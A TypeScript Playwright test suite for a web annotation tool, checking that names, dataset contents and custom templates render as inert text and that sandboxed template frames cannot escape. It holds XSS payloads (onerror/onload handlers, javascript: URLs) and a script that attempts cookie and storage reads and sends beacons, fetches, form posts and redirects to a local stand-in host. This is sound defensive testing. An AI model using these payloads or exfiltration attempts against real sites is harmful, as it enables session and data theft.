import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { group, open, press, ready, strip } from './annotating';
import { expectFits, expectNothingRan } from './harmless';
import { fresh, Place, type QuestionShape } from './made';
import { chunks, inMarkdown, payloads } from './payloads';
import { expect, fillSignIn, find, found, home, test } from './story';
import { call, dataset, user, workspace } from './world';

// Names here stay out of the way of other files' stories.
test.describe.configure({ mode: 'parallel' });

const all = payloads.join('\n');
/** As a page shows it: white space is one blank. */
const shown = (payload: string) => payload.replace(/\s+/g, ' ').trim();

test('the server refuses what no text may have: a zero byte', async ({ world }) => {
  const name = 'a\u0000<img src=x onerror=stolen=1>';
  for (const path of ['/workspaces', '/datasets', '/users'])
    await expect(call(world.url, 'POST', path, { name, username: name })).rejects.toThrow('422');
});

test('the server refuses a name of an agent that is more than a plain word', async ({ world }) => {
  const place = await Place.at(world.url);
  const made = await place.make({ items: [{ fields: { text: 'a' } }] });
  const record = `/records/${made.record(0)}/suggestions`;
  const question_id = made.questions.get('verdict');
  for (const agent of payloads.filter((one) => /[<>"'{}]/.test(one)))
    await expect(
      call(world.url, 'PUT', record, { question_id, value: 'good', agent }),
    ).rejects.toThrow('422');
});

for (const [at, chunk] of chunks(9).entries()) {
  test(`names are text wherever they are shown, part ${at + 1}`, async ({
    page,
    signIn,
    world,
  }) => {
    test.setTimeout(90_000);
    const { url } = world;
    const spaces = [];
    for (const payload of chunk) spaces.push(await workspace(url, `${payload} workspace`));
    const person = await user(url, fresh('named'), 'annotator', spaces);
    for (const [each, payload] of chunk.entries())
      await dataset(url, spaces[each] ?? '', `${payload} dataset`, 1);
    await signIn(person);

    await page.goto('');
    const main = page.getByRole('main');
    for (const payload of chunk) await expect(main).toContainText(`${shown(payload)} dataset`);
    await expectFits(page);
    await expectNothingRan(page);
    await page.getByRole('button', { name: 'As cards' }).click();
    for (const payload of chunk) await expect(main).toContainText(`${shown(payload)} workspace`);
    await expectFits(page);
    await expectNothingRan(page);
    for (const payload of chunk) {
      await page.getByRole('searchbox').fill(payload);
      await find(page, shown(payload));
      await expect(found(page).first()).toBeVisible();
      await page.keyboard.press('Escape');
      await page.goto(`?q=${encodeURIComponent(payload)}`);
      await expect(home(page)).toBeAttached();
    }
    await expectNothingRan(page);
    // What addresses hold is text, too: of no page, of no dataset, of no record.
    for (const payload of chunk) {
      const text = encodeURIComponent(payload);
      await page.goto(`${text.replaceAll('%2F', '-')}/x`);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText('There is nothing here');
      await expectNothingRan(page);
      await page.goto(`datasets/${text.replaceAll('%2F', '-')}/annotate?q=${text}&f=${text}`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expectNothingRan(page);
    }
  });

  test(`people are text wherever they are shown, part ${at + 1}`, async ({
    context,
    page,
    signIn,
    world,
  }) => {
    test.setTimeout(90_000);
    const { url } = world;
    for (const payload of chunk) {
      const username = `${payload} ${fresh('u')}`;
      const password = 'for tests only';
      const body = { username, password, role: 'annotator', first_name: payload };
      await call(url, 'POST', '/users', { ...body, last_name: payload });
      // Asked for by an address that leads elsewhere, refused, and let in.
      await context.clearCookies();
      await page.goto(`sign-in?next=${encodeURIComponent(payload)}`);
      await fillSignIn(page, username, 'wrong');
      await expect(page.locator('form')).toContainText('do not belong together');
      await expectNothingRan(page);
      // A line of a form has no line ends, and no blanks around it.
      if (/^\s|\n/.test(payload)) {
        await signIn({ username, password, role: 'annotator' });
        await page.goto('');
      } else await fillSignIn(page, username, password);
      await expect(home(page)).toBeAttached();
      await page.getByRole('button', { name: /^Account of/ }).click();
      await expect(page.getByText(`${shown(username)} · annotator`)).toBeVisible();
      await expectNothingRan(page);
      await page.keyboard.press('Escape');
      await page.goto('account/profile');
      await expect(page.getByRole('main')).toContainText(shown(payload));
      await expectFits(page);
      await expectNothingRan(page);
      // Somebody whose session has ended is called by name.
      await context.clearCookies();
      await page.getByRole('button', { name: /^Account of/ }).click();
      await page.getByRole('menuitemradio', { name: 'Compact' }).click();
      const ended = page.getByRole('dialog', { name: 'Your session has ended' });
      await expect(ended).toContainText(shown(username));
      await expectNothingRan(page);
    }
  });
}

test('the pages of an account show nothing but text', async ({ page, signIn, world }) => {
  const name = `${payloads[0]} ${fresh('account')}`;
  await signIn(await user(world.url, name, 'annotator', []));
  for (const tab of ['profile', 'annotating', 'keys', 'appearance', 'language', 'sessions']) {
    await page.goto(`account/${tab}`);
    await expect(page.getByRole('heading', { level: 1 })).toBeAttached();
    await expectNothingRan(page);
  }
});

type Kind = 'label_selection' | 'multi_label_selection' | 'ranking';

function questionsOf(payload: string, at: number, texts: readonly string[]): QuestionShape[] {
  const options = [...texts, 'other', 'third'].map((value) => ({
    value,
    text: value,
    description: value,
  }));
  const [title, description] = [`${payload} title`, payload];
  const own = (type: string) => `${type} ${at} ${payload}`;
  return [
    ...(['label_selection', 'multi_label_selection', 'ranking'] satisfies Kind[]).map((type) => ({
      name: own(type),
      title,
      description,
      required: type === 'label_selection',
      settings: { type, options },
    })),
    { name: own('written'), title, description, settings: { type: 'text', use_markdown: true } },
    {
      name: own('rating'),
      title,
      description,
      settings: { type: 'rating', options: [{ value: 1 }, { value: 2 }] },
    },
  ];
}

for (const [at, chunk] of chunks(3).entries()) {
  test(`what a dataset holds is text wherever it is shown, part ${at + 1}`, async ({
    faults,
    page,
    signIn,
    world,
  }) => {
    test.setTimeout(120_000);
    const { url } = world;
    const place = await Place.at(url);
    const guidelines = chunk.map(inMarkdown).join('\n\n');
    const questions = chunk.flatMap((payload, each) => questionsOf(payload, each, chunk));
    const spans = {
      name: 'spans',
      title: `${chunk[0]} title`,
      description: chunk[0] ?? '',
      settings: {
        type: 'span',
        field: 'plain 0',
        options: chunk.map((text) => ({ value: text, text })),
      },
    };
    const kinds = [
      ['plain', { type: 'text' }],
      ['markdown', { type: 'text', use_markdown: true }],
      ['image', { type: 'image' }],
      ['chat', { type: 'chat', use_markdown: true }],
      ['table', { type: 'custom', template: '', advanced_mode: false }],
      ['custom', { type: 'custom', template: '{{record.fields.custom}}', advanced_mode: false }],
    ] as const;
    const fieldsOf = (payload: string): Record<string, unknown> => {
      // A role has at most twenty characters.
      const roles = ['user', payload.slice(0, 20), 'assistant', '<svg/onload=alert()>'];
      const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="stolen=1">${payload}</svg>`;
      return {
        plain: payload,
        markdown: inMarkdown(payload),
        image: `data:image/svg,${encodeURIComponent(svg)}`,
        chat: roles.map((role) => ({ role, content: inMarkdown(payload) })),
        table: { [payload]: [payload, { [payload]: payload }] },
        custom: { [payload]: payload },
      };
    };
    const fields = chunk.flatMap((payload, each) =>
      kinds.map(([kind, settings]) => ({
        name: `${kind} ${each}`,
        title: `${payload} title`,
        settings,
      })),
    );
    const values = Object.fromEntries(
      chunk.flatMap((payload, each) =>
        Object.entries(fieldsOf(payload)).map(([kind, value]) => [`${kind} ${each}`, value]),
      ),
    );
    const made = await place.make({
      name: `${chunk[0]} ${fresh('dataset')}`,
      guidelines,
      fields,
      questions: [...questions, spans],
      metadata: chunk.map((payload, each) => ({
        name: `${payload} ${each}`,
        title: `${payload} title`,
        settings: { type: 'terms', values: null },
      })),
      vectors: chunk.map((payload, each) => ({
        name: `${payload} ${each}`,
        title: `${payload} title`,
        dimensions: 2,
      })),
      items: ['first', 'second', 'third'].map((external, which) => ({
        external_id: `${external} ${chunk[which % chunk.length]}`,
        fields: values,
        metadata: Object.fromEntries(chunk.map((one, each) => [`${one} ${each}`, one])),
        vectors: Object.fromEntries(chunk.map((one, each) => [`${one} ${each}`, [1, which]])),
        suggestions: questions.flatMap(({ name, settings }) => {
          const value = chunk[which % chunk.length];
          const agent = 'javascript:stolen';
          if (settings['type'] === 'label_selection')
            return [{ question: name, value, score: 0.5, agent }];
          return settings['type'] === 'text' ? [{ question: name, value: guidelines, agent }] : [];
        }),
      })),
    });
    await signIn(place.first);
    const quiet = () => expectNothingRan(page);

    await open(page, made);
    await expect(page.getByRole('main')).toContainText(shown(`${chunk[0]} title`));
    const frames = page.locator('iframe').filter({ visible: true });
    await expect(frames).toHaveCount(chunk.length);
    await quiet();
    await expectFits(page);
    await press(page, 'i', 'g', 'l');
    await expect(page.getByRole('region', { name: 'Guidelines' })).toContainText('b');
    await quiet();
    await press(page, 'd');
    await quiet();
    await press(page, 'd');
    // What is suggested is accepted, written on and looked at as it will be read.
    await press(page, 'a', 'n', 'n', 'n', 'a', 'd');
    await expect(page.locator('[data-question]').nth(3)).toContainText('Preview');
    await quiet();
    await page.getByRole('button', { name: 'More', exact: true }).click();
    await page.getByRole('menuitem', { name: 'History' }).click();
    await expect(page.getByRole('main')).toContainText('Undo');
    await quiet();
    // More like this, by a vector of that name.
    await press(page, 'Escape', 'm');
    await expect(page.getByRole('main')).toContainText('most similar');
    await quiet();

    await open(page, made);
    await press(page, 'f');
    const dialog = page.getByRole('dialog', { name: 'Filters' });
    const by = dialog.getByLabel('Filter by');
    const options = await by
      .locator('option')
      .evaluateAll((every) => every.map((one) => (one as HTMLOptionElement).value));
    for (const option of options) await by.selectOption(option);
    await quiet();
    await press(page, 'Escape');
    await page.getByRole('button', { name: 'Sort' }).click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await quiet();
    await press(page, 'Escape');
    await find(page, chunk[0] ?? '');
    await quiet();
    await press(page, 'Escape');
    // Filters, orders and words of the address.
    const safe = (text: string) =>
      encodeURIComponent(text.replace(/[%.,;:]/g, (sign) => `%${sign.charCodeAt(0).toString(16)}`));
    for (const [each, payload] of chunk.entries()) {
      const name = safe(`${payload} ${each}`);
      const query = `&q=${encodeURIComponent(payload)}&f=meta.${name}:in:${safe(payload)}`;
      await page.goto(`${made.path};meta.${name}:asc${query}&view=focus`);
      await expect(page.getByRole('main')).toContainText(shown(payload));
      await quiet();
    }

    await page.goto(`${made.path}&view=bulk`);
    await expect(page.getByRole('list', { name: 'Records' })).toContainText('second');
    await quiet();
    await page.getByRole('button', { name: 'Whole records' }).click();
    await page.getByRole('list', { name: 'Records' }).getByRole('checkbox').first().click();
    await expect(page.getByRole('form', { name: 'Questions for all' })).toBeVisible();
    await expectFits(page);
    await quiet();

    // Links and images of a dataset may be anywhere; none was followed. A browser only says that Markdown
    // tried to give another base to the document in which it was read and from which it was taken out.
    expect(faults.filter((one) => !one.startsWith("console: Setting the document's base"))).toEqual(
      [],
    );
    faults.length = 0;
  });
}

test('what the page says of changes, conflicts and lost answers is text', async ({
  page,
  signIn,
  world,
}) => {
  test.setTimeout(90_000);
  const place = await Place.at(world.url);
  const texts = payloads.map((value) => ({ value, text: value }));
  const title = payloads.slice(0, 20).join(' ').slice(0, 480);
  const made = await place.make({
    guidelines: 'Read.',
    questions: [
      {
        name: 'verdict',
        title,
        required: true,
        settings: { type: 'label_selection', options: texts },
      },
      { name: 'remark', title, settings: { type: 'text', use_markdown: false } },
    ],
    items: ['a', 'b', 'c'].map((id) => ({ external_id: id, fields: { text: `Text ${id}` } })),
  });
  // News that come late: the page must learn of the change by its own answer.
  await page.route('**/me/events?*', (route) => route.abort());
  await signIn(place.first);
  await open(page, made);
  const body = {
    status: 'submitted',
    values: { verdict: { value: payloads[1] }, remark: { value: all } },
  };
  await call(world.url, 'POST', `/records/${made.record(0)}/responses`, body, place.first.key);
  await group(page, 'remark').getByRole('textbox').fill(`mine ${payloads[0]}`);
  await press(page, 'Control+Enter');
  await page.getByRole('button', { name: 'Compare' }).click();
  const dialog = page.getByRole('dialog', { name: 'Two versions of your answer' });
  await expect(dialog).toContainText(payloads[0]);
  await expect(dialog).toContainText(payloads[1]);
  await expectNothingRan(page);
  await dialog.getByRole('button', { name: 'Take theirs' }).click();

  await page.unroute('**/me/events?*');
  await open(page, made);
  await call(world.url, 'PATCH', `/datasets/${made.id}`, {
    guidelines: inMarkdown(all).slice(0, 9000),
  });
  await expect(strip(page)).toContainText('The guidelines were changed');
  await group(page, 'remark').getByRole('textbox').fill(all);
  await call(world.url, 'DELETE', `/datasets/${made.id}/records?ids=${made.record(1)}`);
  await expect(strip(page)).toContainText('Your answer is kept here.');
  await expectNothingRan(page);
  await call(world.url, 'DELETE', `/datasets/${made.id}`);
  await expect(strip(page)).toContainText('This dataset was deleted.');
  await page.reload();
  const left = page.getByRole('region', { name: /still has an answer of yours/ });
  await expect(left).toContainText(payloads[0]);
  await expectFits(page);
  await expectNothingRan(page);
});

test('names that JavaScript has a meaning for are names', async ({ page, signIn, world }) => {
  const place = await Place.at(world.url);
  const names = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];
  const made = await place.make({
    fields: names.map((name) => ({ name })),
    questions: names.map((name) => ({
      name,
      required: true,
      settings: { type: 'text', use_markdown: false },
    })),
    metadata: names.map((name) => ({ name, settings: { type: 'terms', values: null } })),
    items: ['a', 'b'].map((external_id) => ({
      external_id,
      // Written as it comes over the wire: an object of ours would take it for something else.
      fields: JSON.parse(
        `{${names.map((name) => `"${name}": "Text of ${name} ${external_id}"`).join()}}`,
      ) as Record<string, unknown>,
      metadata: JSON.parse(`{${names.map((name) => `"${name}": "x"`).join()}}`) as Record<
        string,
        unknown
      >,
    })),
  });
  await signIn(place.first);
  await open(page, made);
  for (const name of names) await expect(page.getByRole('main')).toContainText(`Text of ${name} a`);
  for (const name of names) await group(page, name).getByRole('textbox').fill(`mine ${name}`);
  await press(page, 'Control+Enter');
  await expect(page.getByRole('main')).toContainText('Text of toString b');
  for (const name of names) await expect(group(page, name).getByRole('textbox')).toHaveValue('');
  await press(page, 'Escape', 'k');
  await expect(page.getByRole('main')).toContainText('Text of toString a');
  for (const name of names)
    await expect(group(page, name).getByRole('textbox')).toHaveValue(`mine ${name}`);
  await expectNothingRan(page);
  await expect
    .poll(async () => {
      const path = `/datasets/${made.id}/records?include=responses`;
      const { items } = await call<{
        items: { responses: { values: Record<string, { value: unknown }> }[] }[];
      }>(world.url, 'GET', path);
      return items.flatMap(({ responses }) =>
        responses.flatMap(({ values }) =>
          Object.entries(values).map(([name, { value }]) => `${name}: ${String(value)}`),
        ),
      );
    })
    .toEqual(expect.arrayContaining(names.map((name) => `${name}: mine ${name}`)));
});

/** A host that no template may reach; what came to it all the same. */
async function elsewhere() {
  const reached: string[] = [];
  const server = createServer((request, answer) => {
    reached.push(request.url ?? '');
    answer.setHeader('access-control-allow-origin', '*');
    answer.end('window.stolen = 1');
  });
  server.on('upgrade', (request, socket) => {
    reached.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  // Where a frame leads itself elsewhere, browsers open a connection before they look at the policy
  // that forbids it; nothing is ever asked over it.
  const close = async () => {
    const closed = new Promise((done) => server.close(done));
    server.closeAllConnections();
    await closed;
  };
  return { reached, url, close };
}

for (const advanced of [false, true]) {
  test(`what a template runs stays in its frame, advanced mode ${String(advanced)}`, async ({
    context,
    faults,
    page,
    signIn,
    world,
  }) => {
    const other = await elsewhere();
    const place = await Place.at(world.url);
    const tries = `
      const report = {};
      const other = '${other.url}', own = '${world.url}';
      const attempt = (name, work) => {
        try { const value = work(); report[name] = value ? 'got ' + value : 'nothing'; }
        catch (error) { report[name] = error.name; }
      };
      // What is neither done nor refused by then was not even tried.
      const soon = (work) => Promise.race([work, new Promise((done) => setTimeout(done, 2000, 'nothing'))]);
      const sees = (name, url) => fetch(url, { credentials: 'include' })
        .then(() => 'got', (error) => error.name).then((told) => { report[name] = told; });
      const loads = (name, tag, set) => soon(new Promise((done) => {
        const made = document.createElement(tag);
        made.onload = () => done('got'); made.onerror = () => done('refused');
        Object.assign(made, set); document.body.append(made);
      })).then((told) => { report[name] = told; });
      const opens = (name, make) => soon(new Promise((done) => {
        try { const made = make(); made.onopen = made.onmessage = () => done('got');
          made.onerror = () => done('refused'); }
        catch (error) { done(error.name); }
      })).then((told) => { report[name] = told; });
      attempt('cookie', () => document.cookie);
      attempt('cookie written', () => { document.cookie = 'stolen=1'; return 'written'; });
      attempt('local storage', () => localStorage.length + 1);
      attempt('session storage', () => sessionStorage.length + 1);
      attempt('caches', () => caches.keys() && 'a promise');
      attempt('parent document', () => parent.document.title);
      attempt('parent variable', () => { parent.stolen = 1; return 'written'; });
      attempt('parent storage', () => parent.localStorage.length + 1);
      attempt('own frame', () => frameElement.id + 'got');
      attempt('top document', () => top.document.cookie);
      attempt('top location', () => top.location.href);
      attempt('top moved', () => { top.location = other + '/top'; return 'moved'; });
      attempt('parent moved', () => { parent.location.replace(other + '/parent'); return 'moved'; });
      attempt('window', () => window.open(other + '/window') && 'a window');
      attempt('domain', () => { document.domain = '127.0.0.1'; return 'set'; });
      attempt('origin', () => origin);
      attempt('worker', () => new Worker(URL.createObjectURL(new Blob(['']))) && 'a worker');
      attempt('service worker', () => navigator.serviceWorker.register('/x.js') && 'one');
      attempt('dialog', () => { alert(1); return confirm('1') || prompt('1') || 'nothing shown'; });
      attempt('beacon', () => navigator.sendBeacon(other + '/beacon', 'x') && 'sent');
      // As the pages of the application tell each other that somebody has signed out.
      attempt('channel', () => { new BroadcastChannel('variorum')
        .postMessage({ kind: 'left', user: '${place.first.id}' }); return 'told'; });
      for (const type of ['submit', 'left', 'render']) parent.postMessage({ type, kind: type }, '*');
      for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'modulepreload'])
        document.head.append(Object.assign(document.createElement('link'),
          { rel, href: other + '/' + rel, as: 'image' }));
      document.body.insertAdjacentHTML('beforeend',
        '<p style="background:url(' + other + '/css)">x</p><p style="width:expression(parent.stolen=1)">x</p>' +
        '<svg><use href="' + other + '/use#x"></use></svg><video src="' + other + '/video"></video>' +
        '<object data="' + other + '/object"></object><embed src="' + other + '/embed">' +
        '<iframe src="' + own + '/"></iframe><iframe src="' + other + '/frame"></iframe>');
      const form = (name, action, target) => attempt(name, () => {
        const made = Object.assign(document.createElement('form'),
          { action, method: 'post', target }); document.body.append(made); made.submit(); return 'sent'; });
      form('form', other + '/form', '');
      form('form to the top', other + '/form-top', '_top');
      form('form to our own', own + '/api/v1/session', '_blank');
      Promise.all([
        sees('fetch other', other + '/fetch'), sees('fetch own', own + '/api/v1/me'),
        loads('image', 'img', { src: other + '/image' }),
        loads('script', 'script', { src: other + '/script' }),
        loads('style', 'link', { rel: 'stylesheet', href: other + '/style' }),
        loads('preload', 'link', { rel: 'preload', as: 'script', href: other + '/preload' }),
        loads('own script', 'script', { src: own + '/api/v1/session' }),
        import(other + '/module').then(() => 'got', (error) => error.name)
          .then((told) => { report.module = told; }),
        opens('socket', () => new WebSocket(other.replace('http', 'ws') + '/socket')),
        opens('own socket', () => new WebSocket(own.replace('http', 'ws') + '/socket')),
        opens('events', () => new EventSource(other + '/events')),
        opens('own events', () => new EventSource(own + '/api/v1/me/events', { withCredentials: true })),
        soon(new Promise((done) => { const made = indexedDB ? indexedDB.open('variorum') : null;
          made.onsuccess = () => done('got'); made.onerror = () => done('refused'); }))
          .catch((error) => error.name).then((told) => { report.database = told; }),
      ]).then(() => {
        document.body.append(Object.assign(document.createElement('pre'),
          { textContent: JSON.stringify(report) }));
      });`;
    // Without advanced mode scripts of a template do not run, but handlers of events do.
    const template = advanced
      ? `<script>${tries}</script>`
      : `<img src="data:," alt="" onerror="${tries.replaceAll('"', '&quot;')}">`;
    const made = await place.make({
      fields: [{ name: 'shown', settings: { type: 'custom', template, advanced_mode: advanced } }],
      items: [{ external_id: 'a', fields: { shown: { secret: 1 } } }],
    });
    await signIn(place.first);
    await open(page, made);
    const address = page.url();
    const frame = page.frameLocator('[data-field="shown"] iframe');
    const report = JSON.parse(await frame.locator('pre').innerText()) as Record<string, string>;
    const nothing = expect.stringMatching(/Error|nothing|refused/);
    // What is said to be done is looked at below: nothing came of it.
    const vain = expect.stringMatching(/./);
    expect(report).toEqual({
      ...Object.fromEntries(Object.keys(report).map((name) => [name, nothing])),
      'top moved': vain,
      'parent moved': vain,
      'cookie written': vain,
      channel: vain,
      dialog: vain,
      beacon: vain,
      form: vain,
      'form to the top': vain,
      'form to our own': vain,
      caches: vain,
      origin: 'got null',
      worker: vain,
      'service worker': vain,
    });
    for (const name of ['cookie', 'local storage', 'session storage', 'parent document'])
      expect([name, report[name]]).toEqual([name, 'SecurityError']);
    // Nothing of it reached the page, which is where it was, and whose it was.
    await expect(page.getByText(new RegExp(`^Blocked: ${other.url}`)).first()).toBeVisible();
    expect(page.url()).toBe(address);
    await ready(page);
    await expect(page.getByRole('dialog')).toHaveCount(0);
    expect(
      await page.evaluate(() => 'stolen' in window || document.cookie.includes('stolen')),
    ).toBe(false);
    expect(await made.answers()).toEqual([]);
    expect(context.pages()).toHaveLength(1);
    await expectNothingRan(page);
    // The last word is ours: whatever had been sent would have come before it.
    await fetch(`${other.url}/ours`);
    expect(other.reached).toEqual(['/ours']);
    // What the browser refused it says, and nothing else happened.
    const rest = faults.filter(
      (one) =>
        !/^console: .*(polic|sandbox|frame|refused|violat|blocked|denied|preload)/i.test(one),
    );
    expect(rest.filter((one) => !one.includes(other.url))).toEqual([]);
    faults.length = 0;
    await other.close();
  });
}

test('a template cannot lead its frame, the page or another window elsewhere', async ({
  context,
  faults,
  page,
  signIn,
  world,
}) => {
  const other = await elsewhere();
  const place = await Place.at(world.url);
  const ways: Record<string, string> = {
    itself: `location.href = '${other.url}/itself?' + JSON.stringify(record.fields)`,
    refresh: `document.head.insertAdjacentHTML('beforeend',
      '<meta http-equiv=refresh content="0;url=${other.url}/refresh">')`,
    link: `Object.assign(document.body.appendChild(document.createElement('a')),
      { href: '${other.url}/link', target: '_top' }).click()`,
    blank: `Object.assign(document.body.appendChild(document.createElement('a')),
      { href: '${other.url}/blank', target: '_blank', ping: '${other.url}/ping' }).click()`,
    script: `Object.assign(document.body.appendChild(document.createElement('a')),
      { href: 'javascript:parent.stolen=1', target: '_parent' }).click()`,
    download: `Object.assign(document.body.appendChild(document.createElement('a')),
      { href: '${other.url}/download', download: 'x' }).click()`,
    form: `document.body.insertAdjacentHTML('beforeend',
      '<form action="${other.url}/form" target="_top"><input name="x"></form>');
      document.forms[0].requestSubmit()`,
    inner: `const inner = document.body.appendChild(document.createElement('iframe'));
      try { inner.contentWindow.fetch('${other.url}/inner'); } catch { /* It is another origin. */ }`,
    srcdoc: `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="' +
      '<script>fetch(\\'${other.url}/srcdoc\\').catch(() => 0)<\\/script><img src=${other.url}/srcdoc-image>"></iframe>')`,
  };
  const made = await place.make({
    fields: Object.entries(ways).map(([name, way]) => ({
      name,
      settings: {
        type: 'custom',
        advanced_mode: true,
        // The page takes no more from a frame than how high it is: by that it is seen to have run.
        template: `<div style="height:300px">${name}</div><script>
          parent.postMessage({ type: 'height', height: 333 }, '*'); ${way};</script>`,
      },
    })),
    items: [{ fields: Object.fromEntries(Object.keys(ways).map((name) => [name, { a: 1 }])) }],
  });
  await signIn(place.first);
  await open(page, made);
  const address = page.url();
  for (const name of Object.keys(ways)) {
    const frame = page.locator(`[data-field="${name}"] iframe`);
    await frame.scrollIntoViewIfNeeded();
    await expect.poll(async () => (await frame.boundingBox())?.height ?? 0).toBeGreaterThan(299);
  }
  expect(page.url()).toBe(address);
  expect(context.pages()).toHaveLength(1);
  await expectNothingRan(page);
  await fetch(`${other.url}/ours`);
  expect(other.reached).toEqual(['/ours']);
  const rest = faults.filter(
    (one) => !/^console: .*(polic|sandbox|frame|refused|violat|blocked|denied)/i.test(one),
  );
  expect(rest.filter((one) => !one.includes(other.url))).toEqual([]);
  faults.length = 0;
  await other.close();
});
